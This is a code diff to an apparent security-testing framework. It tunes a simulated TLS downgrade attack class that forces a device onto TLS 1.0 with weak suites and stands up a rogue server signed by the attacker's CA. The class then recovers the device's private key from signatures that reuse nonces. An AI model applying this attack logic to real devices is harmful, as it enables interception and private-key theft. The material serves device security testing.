@@ -20,6 +20,8 @@ from offchip.scene.defence import Defence
 from offchip.vault import NONE, MediumKind
 
 _SPEAKS_S = 3.0
+#: two signatures with one nonce are enough
+_SESSIONS = 3
 #: until a device has said what it made of a call
 _TELLS_S = 0.2
 _COMPLAINTS = ("storage: error", "credentials: error", "state: fault")
@@ -186,7 +188,7 @@ class DowngradeTls(Attack):
     | old-version | its ClientHello says TLS 1.0 and nothing newer |
     | weak-suite | it offers TLS_RSA_WITH_AES_128_CBC_SHA alone, without forward secrecy |
     | old-server | a server of the attacker's answers that speaks TLS 1.0 and 1.1 only |
-    | signatures | his server asks for the device's certificate and lets it sign, eight times; all signatures are then |
+    | signatures | his server asks for the device's certificate and lets it sign, three times; all signatures are then |
     | | checked, compared, and the private key computed from any two that share a nonce, or from a nonce below 4096 |
 
     ``medium``: for the last two, where the attacker's CA certificate is put first (``none``: nowhere).
@@ -249,13 +251,15 @@ class DowngradeTls(Attack):
         evidence = plant(self, scene, self.medium)
         rogue = scene.answer_as_server(scene.authority.issue_server([scene.host]))
         rogue.asks = (scene.trusted,)
-        for _ in range(8):
+        for _ in range(_SESSIONS):
             known = len(rogue.clients), len(rogue.failures)
             scene.start()
             said = len(scene.board.console.lines)
             await_or_fail(scene, lambda known=known, said=said: (  # type: ignore[misc]
                 len(rogue.clients), len(rogue.failures)) != known or any(
                 each.text.startswith(_COMPLAINTS) for each in scene.board.console.lines[said:]), "the device's call")
+            if not rogue.clients:
+                break  # it does not believe him, and will not the next time
         signatures = [each for visit in rogue.visits for each in signatures_of(visit)]
         recovered = recover(signatures)
         scene.loot.add_key(recovered, f"{scene.address}, recorded sessions")
